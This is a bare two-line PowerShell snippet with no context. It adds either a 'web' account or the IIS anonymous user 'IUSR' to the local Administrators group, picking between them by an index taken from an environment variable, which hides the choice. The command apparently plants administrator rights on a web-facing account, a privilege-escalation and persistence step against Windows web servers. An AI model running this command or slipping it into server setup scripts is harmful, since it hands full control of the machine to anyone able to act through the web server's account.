$m = 'web','IUSR'
Add-LocalGroupMember Administrators $m[$env:N]
